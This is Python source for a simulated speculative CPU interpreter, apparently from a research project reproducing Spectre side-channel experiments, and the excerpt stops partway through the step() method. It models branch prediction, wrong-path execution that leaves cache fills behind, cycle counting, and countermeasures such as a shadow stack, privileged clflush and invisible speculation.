                    regs[instruction.rd] = value
            elif op == _OP.RDCYCLE:
                if instruction.rd != 0:
                    regs[instruction.rd] = int(self.cycles) & MASK32
            elif op == _OP.RDINSTRET:
                if instruction.rd != 0:
                    regs[instruction.rd] = (
                        self.pmu.counters["instructions"] & MASK32
                    )
            elif op == _OP.NOP:
                pass
            else:
                # HALT, SYSCALL, MFENCE, CLFLUSH: serialising — wrong-path
                # execution stops here (clflush is never speculated).
                break
            pc = next_pc

        counters["squashed_instructions"] += executed
        return executed

    # ------------------------------------------------------------------
    # architectural execution
    # ------------------------------------------------------------------
    def step(self):
        """Execute one architectural instruction; returns False on halt."""
        state = self.state
        if state.halted:
            return False
        config = self.config
        counters = self.pmu.counters
        predictor = self.predictor
        pc = state.pc
        instruction = self._fetch(pc)
        op = instruction.opcode
        regs = state.regs
        next_pc = (pc + INSTRUCTION_SIZE) & MASK32
        self.cycles += self._base_cost
        counters["instructions"] += 1

        if _OP.ADD <= op <= _OP.SLTU:
            counters["alu_instructions"] += 1
            if op in (_OP.MUL, _OP.DIV, _OP.MOD):
                counters["mul_div_instructions"] += 1
                self.cycles += (
                    config.div_extra if op in (_OP.DIV, _OP.MOD)
                    else config.mul_extra
                )
            state.write_reg(
                instruction.rd,
                _alu_rrr(op, regs[instruction.rs1], regs[instruction.rs2]),
            )
        elif _OP.ADDI <= op <= _OP.SLTI:
            counters["alu_instructions"] += 1
            if op == _OP.MULI:
                counters["mul_div_instructions"] += 1
                self.cycles += config.mul_extra
            state.write_reg(
                instruction.rd,
                _alu_rri(op, regs[instruction.rs1], instruction.imm),
            )
        elif op == _OP.LI:
            counters["alu_instructions"] += 1
            state.write_reg(instruction.rd, instruction.imm & MASK32)
        elif op == _OP.MOV:
            counters["alu_instructions"] += 1
            state.write_reg(instruction.rd, regs[instruction.rs1])
        elif op == _OP.LW:
            counters["load_instructions"] += 1
            address = (regs[instruction.rs1] + instruction.imm) & MASK32
            value = self.memory.load_word(address)
            self._charge_data_access(address, False)
            state.write_reg(instruction.rd, value)
        elif op == _OP.LB:
            counters["load_instructions"] += 1
            address = (regs[instruction.rs1] + instruction.imm) & MASK32
            value = self.memory.load_byte(address)
            self._charge_data_access(address, False)
            state.write_reg(instruction.rd, value)
        elif op == _OP.SW:
            counters["store_instructions"] += 1
            address = (regs[instruction.rs1] + instruction.imm) & MASK32
            self.memory.store_word(address, regs[instruction.rs2])
            self._charge_data_access(address, True)
        elif op == _OP.SB:
            counters["store_instructions"] += 1
            address = (regs[instruction.rs1] + instruction.imm) & MASK32
            self.memory.store_byte(address, regs[instruction.rs2])
            self._charge_data_access(address, True)
        elif op == _OP.PUSH:
            counters["stack_instructions"] += 1
            self._push_word(regs[instruction.rs1])
        elif op == _OP.POP:
            counters["stack_instructions"] += 1
            state.write_reg(instruction.rd, self._pop_word())
        elif _OP.BEQ <= op <= _OP.BGEU:
            counters["branch_instructions"] += 1
            counters["cond_branch_instructions"] += 1
            taken = _branch_taken(op, regs[instruction.rs1],
                                  regs[instruction.rs2])
            predicted = predictor.predict_conditional(pc)
            mispredicted = predictor.resolve_conditional(pc, predicted, taken)
            if taken:
                counters["branches_taken"] += 1
                next_pc = (pc + instruction.imm) & MASK32
            if mispredicted:
                wrong_path = (
                    (pc + instruction.imm) & MASK32 if predicted
                    else (pc + INSTRUCTION_SIZE) & MASK32
                )
                self._mispredict(wrong_path)
        elif op == _OP.JMP:
            counters["branch_instructions"] += 1
            next_pc = (pc + instruction.imm) & MASK32
        elif op == _OP.JMPR:
            counters["branch_instructions"] += 1
            counters["indirect_jump_instructions"] += 1
            target = (regs[instruction.rs1] + instruction.imm) & MASK32
            predicted = predictor.predict_indirect(pc)
            mispredicted = predictor.resolve_indirect(pc, predicted, target)
            if predicted is None:
                self.cycles += config.btb_miss_penalty
            elif mispredicted:
                self._mispredict(predicted)
            next_pc = target
        elif op == _OP.CALL:
            counters["branch_instructions"] += 1
            counters["call_instructions"] += 1
            return_address = next_pc
            self._push_word(return_address)
            predictor.on_call(return_address)
            if self.shadow_stack is not None:
                self.shadow_stack.on_call(return_address)
            next_pc = (pc + instruction.imm) & MASK32
        elif op == _OP.CALLR:
            counters["branch_instructions"] += 1
            counters["call_instructions"] += 1
            counters["indirect_jump_instructions"] += 1
            target = (regs[instruction.rs1] + instruction.imm) & MASK32
            predicted = predictor.predict_indirect(pc)
            mispredicted = predictor.resolve_indirect(pc, predicted, target)
            return_address = next_pc
            self._push_word(return_address)
            predictor.on_call(return_address)
            if self.shadow_stack is not None:
                self.shadow_stack.on_call(return_address)
            if predicted is None:
                self.cycles += config.btb_miss_penalty
            elif mispredicted:
                self._mispredict(predicted)
            next_pc = target
        elif op == _OP.RET:
            counters["branch_instructions"] += 1
            counters["ret_instructions"] += 1
            target = self._pop_word()
            if self.shadow_stack is not None:
                try:
                    self.shadow_stack.on_return(target)
                except ShadowStackViolation:
                    if self._tr_cpu is not None:
                        self._tr_cpu.event("cpu.shadow_divergence",
                                           pc=pc, target=target)
                    raise
            predicted = predictor.predict_return()
            mispredicted = predictor.resolve_return(predicted, target)
            if mispredicted:
                self._mispredict(predicted)
            next_pc = target
        elif op == _OP.CLFLUSH:
            counters["clflush_instructions"] += 1
            if self.config.clflush_privileged and not self.kernel_mode:
                raise PrivilegeFault(
                    "clflush is disabled for non-privileged code "
                    "(countermeasure active)"
                )
            address = (regs[instruction.rs1] + instruction.imm) & MASK32
            self.caches.flush_line(address)
            self.cycles += config.clflush_latency
        elif op == _OP.MFENCE:
            counters["mfence_instructions"] += 1
            self.cycles += config.fence_latency
            counters["fence_stall_cycles"] += int(config.fence_latency)
        elif op == _OP.RDCYCLE:
            counters["alu_instructions"] += 1
            state.write_reg(instruction.rd, int(self.cycles) & MASK32)
        elif op == _OP.RDINSTRET:
            counters["alu_instructions"] += 1
            state.write_reg(
                instruction.rd, counters["instructions"] & MASK32
            )
        elif op == _OP.SYSCALL:
            counters["syscall_instructions"] += 1
            self.cycles += config.syscall_latency
            if self.syscall_handler is None:
                raise CpuFault(f"syscall at {pc:#010x} with no handler")
            state.pc = next_pc  # handlers (execve) may overwrite this
            self.syscall_handler(self)
            return not state.halted
        elif op == _OP.NOP:
            pass
        elif op == _OP.HALT:
            state.halted = True
            return False
        else:  # pragma: no cover - every opcode is handled above
            raise CpuFault(f"unhandled opcode {op!r} at {pc:#010x}")

        state.pc = next_pc
        return True

    #: How many instructions retire between watchdog charges; coarse
    #: enough to keep the interpreter loop hot, fine enough that a
    #: runaway chain is caught within one chunk of its budget.
    WATCHDOG_STRIDE = 1024

    def run(self, max_instructions=None):
        """Run until halt (or *max_instructions*); returns retired count.

        When ``self.watchdog`` is set, the retired count is charged to it
        in :data:`WATCHDOG_STRIDE` chunks; an exhausted budget raises
        :class:`~repro.errors.BudgetExceededError` out of the loop — this
        is what turns a never-halting injected chain into a typed error
        instead of a hang.
        """
        executed = 0
        stride = self.WATCHDOG_STRIDE
        watchdog = self.watchdog
        while not self.state.halted:
            if max_instructions is not None and executed >= max_instructions:
                break
            self.step()
            executed += 1
            if watchdog is not None and executed % stride == 0:
                watchdog.charge(stride)
        if watchdog is not None and executed % stride:
            watchdog.charge(executed % stride)
        return executed
