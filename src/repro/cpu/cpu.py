"""The speculative CPU: an interpreter with a bounded wrong-path window.

Execution model
---------------
Instructions commit in order.  Control transfers consult the branch
predictor (BHT / BTB / RSB); on a misprediction the CPU first executes up
to ``spec_window`` *wrong-path* instructions starting at the predicted
target.  Wrong-path execution works on a shadow register file and a store
buffer, so architectural state is squashed afterwards — but instruction
and data fetches performed on the wrong path still fill the caches and
TLBs.  That persistence is precisely the Spectre channel the paper (and
Kocher et al.) exploit, so it is modelled faithfully rather than faked.

Timing model
------------
A width-``issue_width`` superscalar is approximated by charging
``1/issue_width`` cycles per simple instruction, plus real penalties for
memory-hierarchy misses, branch mispredictions, fences, and long-latency
arithmetic.  ``rdcycle`` exposes the cycle counter to software, which is
what the covert channel's flush+reload timer reads.

Interpreter layout
------------------
The decode cache stores flat ``(op, rd, rs1, rs2, imm)`` tuples with
*op* a plain int, so dispatch compares ints and operand access is
index-based — no dataclass or enum traffic per retired instruction.
:meth:`Cpu.step` is the readable single-instruction reference;
:meth:`Cpu.run` additionally has a *fast loop* that keeps the program
counter, cycle count and fetch-locality state in locals and syncs them
back on every exit path.  The fast loop is bit-exact with the step()
loop — the differential test in ``tests/cpu/test_fast_loop.py`` pins
that — and is only used when tracing is off (trace events must observe
``self.cycles`` live, so traced runs take the step() loop).
"""

import dataclasses

from repro.branch.predictor import BranchPredictor
from repro.cache.hierarchy import CacheHierarchy
from repro.cpu.engine import engine_mode
from repro.cpu.pmu import Pmu
from repro.cpu.shadow_stack import ShadowStack
from repro.cpu.state import CpuState, to_signed
from repro.errors import (
    CpuFault,
    EncodingError,
    MemoryFault,
    PrivilegeFault,
    ShadowStackViolation,
)
from repro.cpu.superblock import SuperblockEngine
from repro.isa.encoding import INSTRUCTION_SIZE, decode
from repro.isa.opcodes import Opcode
from repro.mem.tlb import Tlb
from repro.obs.prof import current_profiler
from repro.obs.tracer import current_tracer
from time import perf_counter

MASK32 = 0xFFFFFFFF

# Dispatch constants: plain ints.  ``Opcode`` members are IntEnum (int
# comparisons work), but int literals keep the hot dispatch free of any
# enum attribute traffic.  The assertion below pins every constant to
# the ISA definition, so they cannot drift silently.
_NOP, _HALT = 0x00, 0x01
_ADD, _SUB, _MUL, _DIV, _MOD = 0x10, 0x11, 0x12, 0x13, 0x14
_AND, _OR, _XOR, _SHL, _SHR, _SRA, _SLT, _SLTU = (
    0x15, 0x16, 0x17, 0x18, 0x19, 0x1A, 0x1B, 0x1C)
_ADDI, _MULI, _ANDI, _ORI, _XORI = 0x20, 0x21, 0x22, 0x23, 0x24
_SHLI, _SHRI, _SRAI, _SLTI, _LI, _MOV = 0x25, 0x26, 0x27, 0x28, 0x29, 0x2A
_LW, _LB, _SW, _SB, _PUSH, _POP = 0x30, 0x31, 0x32, 0x33, 0x34, 0x35
_BEQ, _BNE, _BLT, _BGE, _BLTU, _BGEU = 0x40, 0x41, 0x42, 0x43, 0x44, 0x45
_JMP, _JMPR, _CALL, _CALLR, _RET = 0x48, 0x49, 0x4A, 0x4B, 0x4C
_SYSCALL, _CLFLUSH, _MFENCE, _RDCYCLE, _RDINSTRET = (
    0x50, 0x51, 0x52, 0x53, 0x54)

assert all(
    globals()[f"_{member.name}"] == member.value for member in Opcode
), "dispatch constants drifted from the ISA definition"


@dataclasses.dataclass(frozen=True)
class CpuConfig:
    """Microarchitectural knobs.

    ``shadow_stack`` and ``clflush_privileged`` implement two of the
    paper's Section-IV countermeasures.
    """

    issue_width: int = 4
    spec_window: int = 48
    mispredict_penalty: float = 14.0
    btb_miss_penalty: float = 8.0
    mul_extra: float = 1.0
    div_extra: float = 3.0
    fence_latency: float = 8.0
    clflush_latency: float = 6.0
    syscall_latency: float = 40.0
    shadow_stack: bool = False
    clflush_privileged: bool = False
    #: InvisiSpec-style defense (Yan et al., MICRO'18; discussed by the
    #: paper): wrong-path loads are serviced from an invisible buffer
    #: and never fill the caches, so a squash leaves no trace — the
    #: covert channel's transmit side goes dark.
    invisible_speculation: bool = False


def _truncdiv(numerator, denominator):
    """C-style truncating integer division (rounds toward zero)."""
    quotient = abs(numerator) // abs(denominator)
    if (numerator < 0) != (denominator < 0):
        quotient = -quotient
    return quotient


def _alu_rrr(op, a, b):
    """32-bit register-register ALU semantics."""
    if op == _ADD:
        return (a + b) & MASK32
    if op == _SUB:
        return (a - b) & MASK32
    if op == _MUL:
        return (a * b) & MASK32
    if op == _DIV:
        if b == 0:
            return MASK32
        return _truncdiv(to_signed(a), to_signed(b)) & MASK32
    if op == _MOD:
        if b == 0:
            return a
        sa, sb = to_signed(a), to_signed(b)
        return (sa - sb * _truncdiv(sa, sb)) & MASK32
    if op == _AND:
        return a & b
    if op == _OR:
        return a | b
    if op == _XOR:
        return a ^ b
    if op == _SHL:
        return (a << (b & 31)) & MASK32
    if op == _SHR:
        return a >> (b & 31)
    if op == _SRA:
        return (to_signed(a) >> (b & 31)) & MASK32
    if op == _SLT:
        return 1 if to_signed(a) < to_signed(b) else 0
    if op == _SLTU:
        return 1 if a < b else 0
    raise AssertionError(f"not an RRR opcode: {op}")


def _alu_rri(op, a, imm):
    """32-bit register-immediate ALU semantics."""
    if op == _ADDI:
        return (a + imm) & MASK32
    if op == _MULI:
        return (a * imm) & MASK32
    if op == _ANDI:
        return a & (imm & MASK32)
    if op == _ORI:
        return a | (imm & MASK32)
    if op == _XORI:
        return a ^ (imm & MASK32)
    if op == _SHLI:
        return (a << (imm & 31)) & MASK32
    if op == _SHRI:
        return a >> (imm & 31)
    if op == _SRAI:
        return (to_signed(a) >> (imm & 31)) & MASK32
    if op == _SLTI:
        return 1 if to_signed(a) < imm else 0
    raise AssertionError(f"not an RRI opcode: {op}")


def _branch_taken(op, a, b):
    if op == _BEQ:
        return a == b
    if op == _BNE:
        return a != b
    if op == _BLT:
        return to_signed(a) < to_signed(b)
    if op == _BGE:
        return to_signed(a) >= to_signed(b)
    if op == _BLTU:
        return a < b
    if op == _BGEU:
        return a >= b
    raise AssertionError(f"not a branch opcode: {op}")


class Cpu:
    """One simulated hardware thread."""

    def __init__(self, memory, caches=None, predictor=None, config=None):
        self.memory = memory
        self.caches = caches or CacheHierarchy()
        self.predictor = predictor or BranchPredictor()
        self.config = config or CpuConfig()
        self.state = CpuState()
        self.dtlb = Tlb()
        self.itlb = Tlb()
        self.pmu = Pmu(self)
        self.cycles = 0.0
        self.shadow_stack = ShadowStack() if self.config.shadow_stack else None
        self.kernel_mode = False
        self.syscall_handler = None
        #: optional instruction-budget guard (duck-typed: needs .charge);
        #: see :class:`repro.core.resilience.watchdog.Watchdog`
        self.watchdog = None
        self._decode_cache = {}
        self._base_cost = 1.0 / self.config.issue_width
        self._l1_latency = self.caches.config.l1_latency
        self._last_iline = -1
        self._last_ipage = -1
        # Engine selection binds once, like the tracer/profiler below:
        # "sb" (default) builds the superblock engine lazily on the
        # first untraced run(); "fast"/"step" never do.  The mode is
        # ambient and non-architectural — it never enters manifests.
        self._engine = engine_mode()
        self._sb = None
        # Stores into executable segments (self-modifying code) must
        # drop stale decode entries and compiled superblocks before the
        # next fetch.  W^X layouts never trigger this.
        memory.add_code_listener(self._on_code_write)
        # Tracing: channels bind once, here; every emission site below
        # guards with ``is not None`` and all of those sites sit on cold
        # sub-paths (mispredict, violation), so the disabled default
        # adds nothing to the hot step loop.
        tracer = current_tracer()
        if tracer.enabled:
            self._tracer = tracer
            self.trace_clk = tracer.register_clock(self._cycles_now)
            self._tr_cpu = tracer.channel("cpu", self.trace_clk)
            self._tr_kernel = tracer.channel("kernel", self.trace_clk)
            cache_channel = tracer.channel("cache", self.trace_clk)
            if cache_channel is not None:
                self.caches.bind_tracer(cache_channel)
            # A tracer whose filter excludes every CPU-side category
            # binds no channels here; nothing inside the run loop can
            # emit, so the fast interpreter loop is observationally
            # identical and the step loop would be pure overhead.  This
            # is what keeps fully-filtered tracing within the disabled-
            # overhead budget BENCH_obs.json gates.
            self._step_trace = (self._tr_cpu is not None
                                or self._tr_kernel is not None
                                or cache_channel is not None)
        else:
            self._tracer = None
            self.trace_clk = 0
            self._tr_cpu = None
            self._tr_kernel = None
            self._step_trace = False
        # Profiling binds the same way: resolved once here, and only an
        # enabled *and active* profiler diverts run() off the fast loop.
        # The disabled default (and the fully-filtered config) leaves
        # self._prof None, so the fast path is untouched.
        profiler = current_profiler()
        self._prof = (profiler if profiler.enabled
                      and profiler.config.active else None)

    def _cycles_now(self):
        """This CPU's virtual clock, as read by its trace channels."""
        return int(self.cycles)

    # ------------------------------------------------------------------
    # helpers
    # ------------------------------------------------------------------
    def reset_for_exec(self):
        """Flush decode/translation state after ``execve`` remaps memory."""
        self._decode_cache.clear()
        if self._sb is not None:
            self._sb.flush()
        self._last_iline = -1
        self._last_ipage = -1
        self.dtlb.flush()
        self.itlb.flush()
        if self.shadow_stack is not None:
            self.shadow_stack.reset()
        self.predictor.rsb.reset()

    def _on_code_write(self, address, size):
        """Memory store landed in an executable segment (SMC).

        Invalidate everything derived from the old bytes: the decode
        cache wholesale (self-modifying code is rare enough that
        precision is not worth the bookkeeping) and every compiled
        superblock.  A closure that is *currently executing* notices
        the generation bump at its next store and deoptimises.
        """
        self._decode_cache.clear()
        if self._sb is not None:
            self._sb.on_code_write(address, size)

    def _flush_code_line(self, address):
        """``clflush`` hit a line inside an executable segment.

        Architecturally a no-op (decode is a pure function of the
        bytes, which clflush does not change), but the decode entries
        and superblocks covering the line are dropped anyway so the
        translation caches track the modelled I-cache: the refill path
        is exercised, never trusted stale.
        """
        line_size = self.caches.line_size
        base = address - (address % line_size)
        dcache = self._decode_cache
        for pc in range(base, base + line_size, INSTRUCTION_SIZE):
            dcache.pop(pc, None)
        if self._sb is not None:
            self._sb.flush()

    def _decode_entry(self, pc):
        """Decode the instruction at *pc* into a flat dispatch tuple.

        The decode cache stores ``(op, rd, rs1, rs2, imm)`` — *op* as a
        plain int — so the interpreter never touches the Instruction
        dataclass or the Opcode enum on the hot path.
        """
        blob = self.memory.fetch(pc, INSTRUCTION_SIZE)
        try:
            instruction = decode(blob)
        except EncodingError as exc:
            raise CpuFault(f"illegal instruction at {pc:#010x}: {exc}")
        entry = (int(instruction.opcode), instruction.rd,
                 instruction.rs1, instruction.rs2, instruction.imm)
        self._decode_cache[pc] = entry
        return entry

    def _fetch(self, pc):
        entry = self._decode_cache.get(pc)
        if entry is None:
            entry = self._decode_entry(pc)
        line = pc >> 6
        if line != self._last_iline:
            self._last_iline = line
            extra = (self.caches.instruction_access_fast(pc)[0]
                     - self._l1_latency)
            if extra > 0:
                self.cycles += extra
                self.pmu.counters["memory_stall_cycles"] += extra
        page = pc >> 12
        if page != self._last_ipage:
            self._last_ipage = page
            self.itlb.access(pc)
        return entry

    def _charge_data_access(self, address, is_write):
        self.dtlb.access(address)
        extra = (self.caches.data_access_fast(address, is_write)[0]
                 - self._l1_latency)
        if extra > 0:
            self.cycles += extra
            self.pmu.counters["memory_stall_cycles"] += extra

    def _push_word(self, value):
        state = self.state
        sp = (state.sp - 4) & MASK32
        state.sp = sp
        self.memory.store_word(sp, value)
        self._charge_data_access(sp, True)

    def _pop_word(self):
        state = self.state
        sp = state.sp
        value = self.memory.load_word(sp)
        self._charge_data_access(sp, False)
        state.sp = (sp + 4) & MASK32
        return value

    def _mispredict(self, wrong_path_pc):
        """Charge the penalty and run the wrong path speculatively."""
        trace = self._tr_cpu
        ts0 = trace.now() if trace is not None else 0
        penalty = self.config.mispredict_penalty
        self.cycles += penalty
        self.pmu.counters["mispredict_penalty_cycles"] += int(penalty)
        if wrong_path_pc is not None:
            executed = self._speculate(wrong_path_pc)
            if trace is not None:
                # One span per speculative window: enter at the branch,
                # squash after *executed* wrong-path instructions.
                trace.complete("cpu.speculate", ts0,
                               pc=self.state.pc, target=wrong_path_pc,
                               squashed=executed)
                self._tracer.metrics.observe(
                    "cpu.speculate.squashed", executed
                )
        elif trace is not None:
            trace.event("cpu.mispredict", pc=self.state.pc)

    # ------------------------------------------------------------------
    # wrong-path (speculative) execution
    # ------------------------------------------------------------------
    def _speculate(self, start_pc):
        """Execute the wrong path; only cache/TLB fills persist.

        This walk dominates wall time on mispredict-heavy workloads
        (one window is up to ``spec_window`` instructions), so — like
        the fast commit loop and the superblock closures — it inlines
        the L1I/L1D LRU hit paths and the TLB MRU shortcut, and
        batches the commutative integer tallies (PMU ``spec_*``
        counters, cache/TLB hit statistics) into locals flushed once
        at squash.  Every *stateful* mutation (LRU clocks and stamps,
        dirty bits, miss-path fills, replacement) still happens on the
        live objects in exact program order — the cache disturbance
        *is* the Spectre side channel, so only counts that commute may
        be deferred.
        """
        regs = self.state.copy_regs()
        store_buffer = {}
        counters = self.pmu.counters
        memory = self.memory
        dcache = self._decode_cache
        caches = self.caches
        data_fast = caches.data_access_fast
        icache_fast = caches.instruction_access_fast
        dtlb = self.dtlb
        itlb = self.itlb
        dtlb_access = dtlb.access
        itlb_access = itlb.access
        invisible = self.config.invisible_speculation
        l1i = caches.l1i
        l1d = caches.l1d
        inline_i = l1i._lru and l1i._trace is None
        if inline_i:
            ii_shift = l1i._line_shift
            ii_mask = l1i._set_mask
            ii_ishift = l1i._index_shift
            ii_maps = l1i._maps
            ii_clocks = l1i._clocks
            ii_stamps = l1i._stamps
        inline_d = l1d._lru and l1d._trace is None
        if inline_d:
            dd_shift = l1d._line_shift
            dd_mask = l1d._set_mask
            dd_ishift = l1d._index_shift
            dd_maps = l1d._maps
            dd_clocks = l1d._clocks
            dd_stamps = l1d._stamps
            dd_dirty = l1d._dirty
        itlb_last = itlb._last_page
        dtlb_last = dtlb._last_page
        n_loads = n_fills = 0
        n_ihit = n_itlb = n_dtlb = n_dhit_r = n_dhit_w = 0
        #: last I-line probed with a hit — sequential fetches in the
        #: same line skip the set/tag recompute and the dict probe and
        #: go straight to the (mandatory, per-access) LRU bump.
        ii_last_ln = -1
        ii_last_si = ii_last_way = 0
        pc = start_pc
        executed = 0

        for _ in range(self.config.spec_window):
            entry = dcache.get(pc)
            if entry is None:
                try:
                    blob = memory.fetch(pc, INSTRUCTION_SIZE)
                    instruction = decode(blob)
                except (MemoryFault, EncodingError):
                    break
                entry = (int(instruction.opcode), instruction.rd,
                         instruction.rs1, instruction.rs2,
                         instruction.imm)
                dcache[pc] = entry
            # Wrong-path fetch fills the I-cache / ITLB too.
            if inline_i:
                ln = pc >> ii_shift
                if ln == ii_last_ln:
                    si = ii_last_si
                    clock = ii_clocks[si] + 1
                    ii_clocks[si] = clock
                    ii_stamps[si][ii_last_way] = clock
                    n_ihit += 1
                else:
                    si = ln & ii_mask
                    way = ii_maps[si].get(ln >> ii_ishift)
                    if way is not None:
                        clock = ii_clocks[si] + 1
                        ii_clocks[si] = clock
                        ii_stamps[si][way] = clock
                        n_ihit += 1
                        ii_last_ln = ln
                        ii_last_si = si
                        ii_last_way = way
                    else:
                        icache_fast(pc)
                        ii_last_ln = -1
            else:
                icache_fast(pc)
            page = pc >> 12
            if page == itlb_last:
                n_itlb += 1
            else:
                itlb_access(pc)
                itlb_last = page

            executed += 1
            op, rd, rs1, rs2, imm = entry
            next_pc = (pc + INSTRUCTION_SIZE) & MASK32

            # ALU ranges lead the dispatch (they dominate wrong-path
            # mixes), with the hottest opcodes decoded inline instead
            # of through the _alu_* helpers.
            if _ADD <= op <= _SLTU:
                if rd != 0:
                    if op == _ADD:
                        regs[rd] = (regs[rs1] + regs[rs2]) & MASK32
                    elif op == _SUB:
                        regs[rd] = (regs[rs1] - regs[rs2]) & MASK32
                    elif op == _AND:
                        regs[rd] = regs[rs1] & regs[rs2]
                    elif op == _OR:
                        regs[rd] = regs[rs1] | regs[rs2]
                    elif op == _XOR:
                        regs[rd] = regs[rs1] ^ regs[rs2]
                    else:
                        regs[rd] = _alu_rrr(op, regs[rs1], regs[rs2])
            elif _ADDI <= op <= _SLTI:
                if rd != 0:
                    if op == _ADDI:
                        regs[rd] = (regs[rs1] + imm) & MASK32
                    elif op == _SHLI:
                        regs[rd] = (regs[rs1] << (imm & 31)) & MASK32
                    elif op == _SHRI:
                        regs[rd] = regs[rs1] >> (imm & 31)
                    else:
                        regs[rd] = _alu_rri(op, regs[rs1], imm)
            elif op == _LI:
                if rd != 0:
                    regs[rd] = imm & MASK32
            elif op == _MOV:
                if rd != 0:
                    regs[rd] = regs[rs1]
            elif op == _LW or op == _LB:
                address = (regs[rs1] + imm) & MASK32
                n_loads += 1
                if invisible:
                    # Serviced from the speculative buffer: data flows to
                    # the wrong path, but no cache line is installed.
                    pass
                else:
                    page = address >> 12
                    if page == dtlb_last:
                        n_dtlb += 1
                    else:
                        dtlb_access(address)
                        dtlb_last = page
                    hit = False
                    if inline_d:
                        ln = address >> dd_shift
                        si = ln & dd_mask
                        way = dd_maps[si].get(ln >> dd_ishift)
                        if way is not None:
                            clock = dd_clocks[si] + 1
                            dd_clocks[si] = clock
                            dd_stamps[si][way] = clock
                            n_dhit_r += 1
                            hit = True
                    if not hit and data_fast(address, False)[1] == 3:
                        n_fills += 1
                key = (address, 4 if op == _LW else 1)
                if key in store_buffer:
                    value = store_buffer[key]
                else:
                    try:
                        if op == _LW:
                            value = memory.load_word(address)
                        else:
                            value = memory.load_byte(address)
                    except MemoryFault:
                        # Faulting wrong-path loads are suppressed; the
                        # cache fill above already happened, as on real
                        # hardware with a physically-mapped probe array.
                        break
                if rd != 0:
                    regs[rd] = value & MASK32
            elif op == _SW or op == _SB:
                address = (regs[rs1] + imm) & MASK32
                size = 4 if op == _SW else 1
                store_buffer[(address, size)] = regs[rs2] & (
                    MASK32 if size == 4 else 0xFF
                )
                page = address >> 12
                if page == dtlb_last:
                    n_dtlb += 1
                else:
                    dtlb_access(address)
                    dtlb_last = page
                hit = False
                if inline_d:
                    ln = address >> dd_shift
                    si = ln & dd_mask
                    way = dd_maps[si].get(ln >> dd_ishift)
                    if way is not None:
                        clock = dd_clocks[si] + 1
                        dd_clocks[si] = clock
                        dd_stamps[si][way] = clock
                        dd_dirty[si][way] = True
                        n_dhit_w += 1
                        hit = True
                if not hit:
                    data_fast(address, True)
            elif _BEQ <= op <= _BGEU:
                # Nested branches resolve immediately on the wrong path.
                if _branch_taken(op, regs[rs1], regs[rs2]):
                    next_pc = (pc + imm) & MASK32
            elif op == _JMP:
                next_pc = (pc + imm) & MASK32
            elif op == _JMPR:
                next_pc = (regs[rs1] + imm) & MASK32
            elif op == _CALL or op == _CALLR:
                return_address = next_pc
                sp = (regs[13] - 4) & MASK32
                regs[13] = sp
                store_buffer[(sp, 4)] = return_address
                if op == _CALL:
                    next_pc = (pc + imm) & MASK32
                else:
                    next_pc = (regs[rs1] + imm) & MASK32
            elif op == _RET:
                sp = regs[13]
                key = (sp, 4)
                if key in store_buffer:
                    target = store_buffer[key]
                else:
                    try:
                        target = memory.load_word(sp)
                    except MemoryFault:
                        break
                regs[13] = (sp + 4) & MASK32
                next_pc = target & MASK32
            elif op == _PUSH:
                sp = (regs[13] - 4) & MASK32
                regs[13] = sp
                store_buffer[(sp, 4)] = regs[rs1]
                hit = False
                if inline_d:
                    ln = sp >> dd_shift
                    si = ln & dd_mask
                    way = dd_maps[si].get(ln >> dd_ishift)
                    if way is not None:
                        clock = dd_clocks[si] + 1
                        dd_clocks[si] = clock
                        dd_stamps[si][way] = clock
                        dd_dirty[si][way] = True
                        n_dhit_w += 1
                        hit = True
                if not hit:
                    data_fast(sp, True)
            elif op == _POP:
                sp = regs[13]
                key = (sp, 4)
                if key in store_buffer:
                    value = store_buffer[key]
                else:
                    try:
                        value = memory.load_word(sp)
                    except MemoryFault:
                        break
                hit = False
                if inline_d:
                    ln = sp >> dd_shift
                    si = ln & dd_mask
                    way = dd_maps[si].get(ln >> dd_ishift)
                    if way is not None:
                        clock = dd_clocks[si] + 1
                        dd_clocks[si] = clock
                        dd_stamps[si][way] = clock
                        n_dhit_r += 1
                        hit = True
                if not hit:
                    data_fast(sp, False)
                regs[13] = (sp + 4) & MASK32
                if rd != 0:
                    regs[rd] = value
            elif op == _RDCYCLE:
                if rd != 0:
                    regs[rd] = int(self.cycles) & MASK32
            elif op == _RDINSTRET:
                if rd != 0:
                    regs[rd] = counters["instructions"] & MASK32
            elif op == _NOP:
                pass
            else:
                # HALT, SYSCALL, MFENCE, CLFLUSH: serialising — wrong-path
                # execution stops here (clflush is never speculated).
                break
            pc = next_pc

        # Batched tallies (all plain integer adds, so deferring them
        # to squash time is exact).
        if executed:
            counters["spec_instructions"] += executed
        if n_loads:
            counters["spec_loads"] += n_loads
        if n_fills:
            counters["spec_cache_fills"] += n_fills
        if n_ihit:
            stats = l1i.stats
            stats.accesses += n_ihit
            stats.read_accesses += n_ihit
            stats.hits += n_ihit
        if n_dhit_r or n_dhit_w:
            stats = l1d.stats
            hits = n_dhit_r + n_dhit_w
            stats.accesses += hits
            stats.hits += hits
            if n_dhit_r:
                stats.read_accesses += n_dhit_r
            if n_dhit_w:
                stats.write_accesses += n_dhit_w
        if n_itlb:
            itlb.hits += n_itlb
        if n_dtlb:
            dtlb.hits += n_dtlb
        counters["squashed_instructions"] += executed
        return executed

    # ------------------------------------------------------------------
    # architectural execution
    # ------------------------------------------------------------------
    def step(self):
        """Execute one architectural instruction; returns False on halt.

        This is the single-instruction reference implementation; the
        fast loop in :meth:`run` replicates it exactly (differential
        test: ``tests/cpu/test_fast_loop.py``).
        """
        state = self.state
        if state.halted:
            return False
        config = self.config
        counters = self.pmu.counters
        predictor = self.predictor
        pc = state.pc
        op, rd, rs1, rs2, imm = self._fetch(pc)
        regs = state.regs
        next_pc = (pc + INSTRUCTION_SIZE) & MASK32
        self.cycles += self._base_cost
        counters["instructions"] += 1

        if _ADD <= op <= _SLTU:
            counters["alu_instructions"] += 1
            if _MUL <= op <= _MOD:
                counters["mul_div_instructions"] += 1
                self.cycles += (
                    config.div_extra if op != _MUL else config.mul_extra
                )
            state.write_reg(rd, _alu_rrr(op, regs[rs1], regs[rs2]))
        elif _ADDI <= op <= _SLTI:
            counters["alu_instructions"] += 1
            if op == _MULI:
                counters["mul_div_instructions"] += 1
                self.cycles += config.mul_extra
            state.write_reg(rd, _alu_rri(op, regs[rs1], imm))
        elif op == _LI:
            counters["alu_instructions"] += 1
            state.write_reg(rd, imm & MASK32)
        elif op == _MOV:
            counters["alu_instructions"] += 1
            state.write_reg(rd, regs[rs1])
        elif op == _LW:
            counters["load_instructions"] += 1
            address = (regs[rs1] + imm) & MASK32
            value = self.memory.load_word(address)
            self._charge_data_access(address, False)
            state.write_reg(rd, value)
        elif op == _LB:
